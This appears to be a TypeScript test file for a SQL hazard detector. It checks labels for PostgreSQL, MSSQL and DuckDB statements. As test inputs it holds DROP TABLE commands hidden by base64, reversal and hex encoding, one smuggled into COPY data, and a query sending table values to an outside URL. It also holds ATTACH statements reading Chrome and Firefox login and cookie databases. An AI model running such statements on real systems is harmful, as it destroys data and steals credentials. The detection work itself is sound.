import { expectHazards } from './read.ts';

// Texts that are computed before they run: `RFJPUCBUQUJMRSB0` is base64 of `DROP TABLE t`.
expectHazards([
  [
    "DO $$ DECLARE s text := convert_from(decode('RFJPUCBUQUJMRSB0', 'base64'), 'UTF8'); BEGIN EXECUTE s; END $$",
    'drop hidden',
  ],
  ["DO $$ BEGIN EXECUTE replace('DR0P TABLE t', '0', 'O'); END $$", 'drop'],
  ["DO $$ BEGIN EXECUTE reverse('t ELBAT PORD'); END $$", 'drop hidden'],
  ["DO $$ DECLARE q text; BEGIN SELECT 'DROP ' || 'TABLE t' INTO q; EXECUTE q; END $$", 'drop'],
]);
expectHazards(
  [
    ["DECLARE @q nvarchar(99) = REVERSE(N't ELBAT PORD'); EXEC (@q)", 'drop hidden'],
    [
      'DECLARE @q nvarchar(99) = CAST(0x440052004F00500020005400410042004C00450020007400 AS nvarchar(99)); EXEC sp_executesql @q',
      'drop hidden',
    ],
    ['DECLARE @q varchar(99) = CONVERT(varchar(99), 0x44524F50205441424C452074); EXEC (@q)', 'drop hidden'],
  ],
  'mssql',
);

// A text of which every part is known, and its parameters.
expectHazards(
  [
    [
      "DECLARE @s nvarchar(max) = N'SELECT a FROM t WHERE b = @b'; EXEC sp_executesql @s, N'@b int', @b = 1",
      '',
    ],
    [
      "DECLARE @s nvarchar(max) = N'SELECT a FROM t'; IF @x > 1 SET @s += N' WHERE b = 1'; EXEC sp_executesql @s",
      '',
    ],
    ["CREATE PROCEDURE p @s nvarchar(max) = N'SELECT 1' AS EXEC sp_executesql @s", 'dynamic'],
    ["DECLARE @s nvarchar(max) = N'SELECT a FROM ' + @table; EXEC sp_executesql @s", 'dynamic'],
    ["DECLARE @s nvarchar(max) = N'SELECT 1'; SELECT @s = query FROM jobs; EXEC (@s)", 'dynamic'],
  ],
  'mssql',
);

// Data that psql reads behind COPY, and statements that only look like it.
expectHazards([
  ['COPY t (a, b) FROM STDIN WITH (FORMAT csv);\na,b\nDE,"Germany, West"\nO\'Brien,x\n\\.\nANALYZE t;', ''],
  ['COPY t FROM STDIN;\n1\nDROP TABLE users;\n\\.\n', 'drop not-understood'],
]);

// Files of data at fixed addresses, and DuckDB's own extensions.
expectHazards([
  ['INSTALL httpfs; LOAD httpfs', 'bundled-extension'],
  ["LOAD '/tmp/x.duckdb_extension'", 'native-code'],
  ["INSTALL x FROM 'http://a.example/repository'", 'native-code network'],
  ["SELECT * FROM read_parquet('s3://bucket/a/*.parquet')", 'reads-bucket'],
  ["SELECT * FROM read_csv('https://a.example/x.csv?d=' || (SELECT max(a) FROM t))", 'network'],
  ["SELECT * FROM read_csv('https://a.example/x.csv?d=1')", 'network'],
  ["ATTACH 'x.php' AS a", 'writes-files'],
  ["ATTACH '/srv/other.db' AS a", 'attach'],
  ["ATTACH 'other.db' AS a", ''],
  ["ATTACH '/home/u/.config/google-chrome/Default/Login Data' AS c", 'reads-files'],
  [
    "ATTACH 'C:\\Users\\u\\AppData\\Local\\Google\\Chrome\\Default\\Cookies\\..\\Login Data' AS c",
    'reads-files',
  ],
  ["ATTACH DATABASE '/home/u/.mozilla/firefox/a.default/cookies.sqlite' AS c", 'reads-files'],
]);
